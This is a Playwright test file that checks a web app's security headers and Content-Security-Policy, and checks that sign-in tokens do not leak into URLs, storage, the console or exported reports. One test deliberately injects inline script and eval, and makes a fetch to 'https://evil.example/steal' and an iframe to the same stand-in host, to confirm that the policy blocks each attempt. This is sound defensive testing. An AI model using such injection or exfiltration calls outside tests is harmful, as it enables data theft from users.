import { readFileSync } from 'node:fs';
import type { Page } from '@playwright/test';
import { test, expect, signIn, registerAndVerify, watchCspViolations } from './fixtures';
import { APP_ORIGIN, TEST_CLIENT_ID } from './support/constants';
import { collectIssuedTokens, leaks } from './support/issued-tokens';

/** What the deployment ships; `vite preview` applies it (scripts/static-web-app-headers.ts). */
const shipped = JSON.parse(readFileSync('public/staticwebapp.config.json', 'utf8')) as {
  globalHeaders: Record<string, string>;
  routes: Array<{ route: string; headers?: Record<string, string> }>;
};
const GLOBAL_CSP = shipped.globalHeaders['Content-Security-Policy']!;

/** A Content-Security-Policy as directive → sources. */
function directives(policy: string | undefined): Record<string, string[]> {
  const map: Record<string, string[]> = {};
  for (const part of (policy ?? '').split(';')) {
    const [name, ...sources] = part.trim().split(/\s+/);
    if (name) map[name.toLowerCase()] = sources;
  }
  return map;
}

function expectCommonHeaders(headers: Record<string, string>): void {
  expect(headers['x-content-type-options']).toBe('nosniff');
  expect(headers['referrer-policy']).toBe('no-referrer');
  const permissions = headers['permissions-policy'] ?? '';
  for (const feature of ['camera', 'microphone', 'geolocation', 'payment', 'usb'])
    expect(permissions).toContain(`${feature}=()`);
  // "Copy report" needs the clipboard: it must stay allowed.
  expect(permissions).not.toContain('clipboard-write');
}

test.describe('headers from public/staticwebapp.config.json', () => {
  test('the app, a deep link, config.json and the assets carry the strict policy and the usual headers', async ({
    request,
  }) => {
    const html = { accept: 'text/html' };
    for (const path of ['/', '/demo/sign-in', '/onboarding/some/deep/link?step=2']) {
      const response = await request.get(path, { headers: html });
      expect(response.status(), path).toBe(200);
      expect(await response.text(), path).toContain('<div id="root" data-prerendered="">'); // the SPA's page, by the fallback
      const headers = response.headers();
      // The shipped policy, word for word; its strictness is checked on the file (static-web-app-headers.test.mjs).
      expect(headers['content-security-policy'], path).toBe(GLOBAL_CSP);
      expect(directives(headers['content-security-policy'])['frame-ancestors'], path).toEqual(["'none'"]);
      expect(headers['cross-origin-opener-policy'], path).toBe('same-origin');
      expect(headers['cache-control'], path).toBe('no-cache');
      expectCommonHeaders(headers);
    }

    const config = await request.get('/config.json');
    expect(config.status()).toBe(200);
    expect((await config.json()).clientId).toBe(TEST_CLIENT_ID);
    expect(config.headers()['cache-control']).toBe('no-cache'); // operators replace the file: always revalidate
    expect(config.headers()['content-security-policy']).toBe(GLOBAL_CSP);
    expectCommonHeaders(config.headers());

    const index = await (await request.get('/')).text();
    const script = /<script type="module"[^>]* src="(\/assets\/main-[\w-]+\.js)"/.exec(index)?.[1];
    expect(script).toBeDefined();
    const asset = await request.get(script!);
    expect(asset.headers()['content-type']).toMatch(/javascript/);
    expect(asset.headers()['cache-control']).toBe('public, max-age=31536000, immutable');
    expectCommonHeaders(asset.headers());
  });
});

test.describe('the app under the policy', () => {
  test('the landing page runs without a violation', async ({ page }) => {
    const landing = await page.goto('/');
    expect(landing?.headers()['content-security-policy']).toBe(GLOBAL_CSP);
    await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
    const index = await landing!.text();
    expect(index).not.toMatch(/<script(?![^>]*\bsrc=)[^>]*>|<style|\sstyle=|\son\w+=/i);
    // The fixture fails the test on any CSP violation or console error.
  });

  test('the CSP violation detector catches deliberate violations (in a throwaway page)', async ({ browser }) => {
    // A context of its own: the violations below must not fail this test through the page fixture.
    const context = await browser.newContext({ baseURL: APP_ORIGIN });
    try {
      const violations = await watchCspViolations(context);
      const page = await context.newPage();
      const consoleErrors: string[] = [];
      page.on('console', (message) => {
        if (message.type() === 'error') consoleErrors.push(message.text());
      });
      await page.goto('/');
      await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
      expect(violations).toEqual([]);

      const outcome = await page.evaluate(async () => {
        const script = document.createElement('script');
        // Trusted Types: a plain string into a script sink (innerHTML, a script's text or src, eval) throws.
        let trustedTypesOutcome = 'ran';
        try {
          script.textContent = 'window.__inlineScriptRan = true;';
        } catch (error) {
          trustedTypesOutcome = (error as Error).name;
        }
        // The same text as a TrustedScript (a policy of this test's own) passes that check and still meets script-src.
        const trustedTypes = (
          window as unknown as {
            trustedTypes: {
              createPolicy(
                name: string,
                rules: { createScript(s: string): string },
              ): { createScript(s: string): string };
            };
          }
        ).trustedTypes;
        const trusted = trustedTypes.createPolicy('e2e-detector', { createScript: (s) => s });
        script.textContent = trusted.createScript('window.__inlineScriptRan = true;');
        document.head.append(script);
        // Later, in a task of the page's own: DevTools lets code it evaluates itself use eval.
        const evalOutcome = await new Promise<string>((resolve) =>
          setTimeout(() => {
            try {
              (0, eval)(trusted.createScript('1 + 1'));
              resolve('ran');
            } catch (error) {
              resolve((error as Error).name);
            }
          }, 0),
        );
        let fetchOutcome = 'ran';
        try {
          await fetch('https://evil.example/steal');
        } catch (error) {
          fetchOutcome = (error as Error).name;
        }
        const styled = document.createElement('p');
        styled.setAttribute('style', 'color: red');
        document.body.append(styled);
        const frame = document.createElement('iframe');
        frame.src = 'https://evil.example/frame';
        document.body.append(frame);
        return {
          trustedTypesOutcome,
          inlineScriptRan: (window as unknown as { __inlineScriptRan?: boolean }).__inlineScriptRan === true,
          evalOutcome,
          fetchOutcome,
          inlineStyleApplied: getComputedStyle(styled).color === 'rgb(255, 0, 0)',
        };
      });
      expect(outcome).toEqual({
        trustedTypesOutcome: 'TypeError',
        inlineScriptRan: false,
        evalOutcome: 'EvalError',
        fetchOutcome: 'TypeError',
        inlineStyleApplied: false,
      });

      await expect
        .poll(() => [...new Set(violations.map((v) => v.directive))].sort())
        .toEqual([
          'connect-src',
          'frame-src',
          'require-trusted-types-for',
          'script-src',
          'script-src-elem',
          'style-src-attr',
        ]);
      expect(violations.find((v) => v.directive === 'require-trusted-types-for')?.blocked).toBe('trusted-types-sink');
      expect(violations.find((v) => v.directive === 'connect-src')?.blocked).toBe('https://evil.example/steal');
      expect(violations.find((v) => v.directive === 'script-src-elem')?.blocked).toBe('inline');
      expect(violations.every((v) => v.documentURL === `${APP_ORIGIN}/` && v.disposition === 'enforce')).toBe(true);
      // Chromium logs them as console errors too, which the page fixture also fails a test on.
      await expect
        .poll(() => consoleErrors.filter((t) => t.includes('Content Security Policy')).length)
        .toBeGreaterThanOrEqual(5);

      // frame-src 'none': the app frames nothing, not even its own pages (it has no MSAL bridge page to frame); and
      // frame-ancestors 'none' keeps any site from framing it (clickjacking).
      await page.evaluate(() => {
        const frame = document.createElement('iframe');
        frame.title = 'Framed app';
        frame.src = '/';
        document.body.append(frame);
      });
      await expect
        .poll(() => violations.some((v) => v.directive === 'frame-src' && v.blocked.startsWith(APP_ORIGIN)))
        .toBe(true);
      await expect(
        page.frameLocator('iframe[title="Framed app"]').getByRole('heading', { name: 'Sign in' }),
      ).toHaveCount(0);
    } finally {
      await context.close();
    }
  });
});

async function storage(page: Page, area: 'localStorage' | 'sessionStorage'): Promise<Record<string, string>> {
  return page.evaluate((name) => {
    const store = window[name];
    const entries: Record<string, string> = {};
    for (let i = 0; i < store.length; i++) {
      const key = store.key(i)!;
      entries[key] = store.getItem(key) ?? '';
    }
    return entries;
  }, area);
}

test.describe('tokens', () => {
  // 400: Entra's consent_required answer to the first silent Digital Twins request, before the user consents.
  test.use({ allowedHttpErrors: [400] });

  test('never appear in a URL, localStorage, the console, the page or the copied or downloaded report', async ({
    page,
    context,
    emulator,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: APP_ORIGIN });
    const issued = collectIssuedTokens(page);
    const urls: string[] = [];
    context.on('request', (request) => urls.push(request.url()));
    page.on('framenavigated', (frame) => urls.push(frame.url()));
    const consoleTexts: string[] = [];
    page.on('console', (message) => consoleTexts.push(message.text()));

    await page.goto('/');
    await signIn(page, 'Ada Admin');
    urls.push(page.url());
    await registerAndVerify(page, emulator);
    urls.push(page.url());

    await page.getByRole('button', { name: 'Copy report' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Copied to the clipboard.' })).toBeVisible();
    const copied = await page.evaluate(() => navigator.clipboard.readText());
    const shown = (await page.getByLabel('Onboarding report (JSON)').textContent()) ?? '';
    expect(JSON.parse(copied).verification.account).toBe('admin@contoso.onmicrosoft.com');
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Download JSON' }).click(),
    ]);
    const downloaded = readFileSync(await download.path(), 'utf8');
    expect(JSON.parse(downloaded).verification.account).toBe('admin@contoso.onmicrosoft.com');
    await expect(page.getByRole('article', { name: /^Onboarding summary/ })).toBeVisible();

    await issued.settled();
    const tokens = [...issued.tokens];
    // Sign-in (ARM) and verification (Digital Twins): access, ID and refresh tokens were really issued...
    expect(tokens.length).toBeGreaterThanOrEqual(4);
    // ...and MSAL keeps them in sessionStorage, so the searches below look for strings that do exist.
    const session = JSON.stringify(await storage(page, 'sessionStorage'));
    expect(tokens.filter((t) => session.includes(t)).length).toBeGreaterThanOrEqual(3);

    // By design the authorization code comes back in the redirect; that is all that may.
    expect(urls.some((u) => /[?#&]code=/.test(u))).toBe(true);
    expect(urls.filter((u) => /[?#&](access_token|id_token|refresh_token|id_token_hint)=/.test(u))).toEqual([]);
    expect(urls.filter((u) => leaks(u, tokens) > 0)).toEqual([]);
    expect(page.url()).not.toMatch(/[?#&]code=/);

    const local = await storage(page, 'localStorage');
    expect(Object.keys(local).filter((k) => /token/i.test(k))).toEqual([]);
    expect(leaks(JSON.stringify(local), tokens)).toBe(0);
    expect(consoleTexts.filter((t) => leaks(t, tokens) > 0)).toEqual([]);
    expect(leaks(copied, tokens)).toBe(0);
    expect(leaks(downloaded, tokens)).toBe(0);
    expect(leaks(shown, tokens)).toBe(0);
    expect(leaks(await page.content(), tokens)).toBe(0);
  });

  test("sign-out clears MSAL's token cache", async ({ page, context }) => {
    const issued = collectIssuedTokens(page);
    const urls: string[] = [];
    context.on('request', (request) => urls.push(request.url()));
    await page.goto('/');
    await signIn(page, 'Ada Admin');
    await expect(page.getByRole('button', { name: 'Use this subscription: Contoso Production' })).toBeVisible();
    await issued.settled();
    expect(issued.tokens.size).toBeGreaterThanOrEqual(3); // the leak search below looks for tokens that were issued
    const before = await storage(page, 'sessionStorage');
    expect(
      Object.keys(before).filter((k) => /accesstoken|refreshtoken|idtoken/i.test(k)).length,
    ).toBeGreaterThanOrEqual(3);

    await page.getByRole('button', { name: 'Sign out' }).click();
    await expect(page.getByRole('heading', { level: 1, name: 'Sign in' })).toBeVisible();
    const after = { ...(await storage(page, 'sessionStorage')), ...(await storage(page, 'localStorage')) };
    expect(Object.keys(after).filter((k) => /accesstoken|refreshtoken|idtoken/i.test(k))).toEqual([]);
    expect(leaks(JSON.stringify(after), issued.tokens)).toBe(0);
    // The sign-out request names no token (no id_token_hint) either.
    const logout = urls.filter((u) => u.includes('/oauth2/v2.0/logout'));
    expect(logout).toHaveLength(1);
    expect(logout.filter((u) => /id_token_hint=/.test(u) || leaks(u, issued.tokens) > 0)).toEqual([]);
  });
});
